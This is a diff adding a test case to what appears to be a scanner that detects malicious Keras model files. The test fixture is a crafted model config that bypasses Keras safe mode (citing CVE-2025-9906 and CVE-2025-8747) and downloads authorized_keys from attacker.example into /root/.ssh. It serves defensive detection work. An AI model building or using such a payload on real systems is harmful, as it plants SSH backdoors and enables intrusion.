@@ -49,5 +49,61 @@ testRule(rule, {
         },
       ],
     },
+    {
+      name: 'safe-mode bypasses: Lambda references to Keras functions with arguments from the config (CVE-2025-9906, CVE-2025-8747)',
+      path: 'model.keras',
+      content: kerasArchive(
+        kerasConfig([
+          dense('d'),
+          {
+            module: 'keras.layers',
+            class_name: 'Lambda',
+            config: {
+              name: 'unsafe',
+              function: { module: 'keras.src.backend.common.global_state', class_name: 'function', config: 'set_global_attribute' },
+              arguments: { name: 'safe_mode_saving', value: false },
+            },
+          },
+          {
+            module: 'keras.layers',
+            class_name: 'Lambda',
+            config: {
+              name: 'fetch',
+              function: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'function' },
+              arguments: { origin: 'https://attacker.example/authorized_keys', cache_dir: '/root/.ssh' },
+            },
+          },
+          {
+            module: 'keras.layers',
+            class_name: 'Lambda',
+            config: { name: 'reload', function: { module: 'keras.saving', class_name: 'function', config: 'load_model' } },
+          },
+        ]),
+      ),
+      findings: [
+        {
+          ...whole,
+          objectPath: '/config/layers/2',
+          severity: 'critical',
+          evidence: 'keras.src.backend.common.global_state.set_global_attribute',
+          message:
+            "Keras Lambda layer 'unsafe' calls the Python function keras.src.backend.common.global_state.set_global_attribute, which turns safe mode off, when the model runs",
+        },
+        {
+          ...whole,
+          objectPath: '/config/layers/3',
+          severity: 'critical',
+          evidence: 'keras.utils.get_file',
+          message: /reaches the file system or the network/,
+        },
+        {
+          ...whole,
+          objectPath: '/config/layers/4',
+          severity: 'critical',
+          evidence: 'keras.saving.load_model',
+          message: /loads another model/,
+        },
+      ],
+    },
   ],
 });
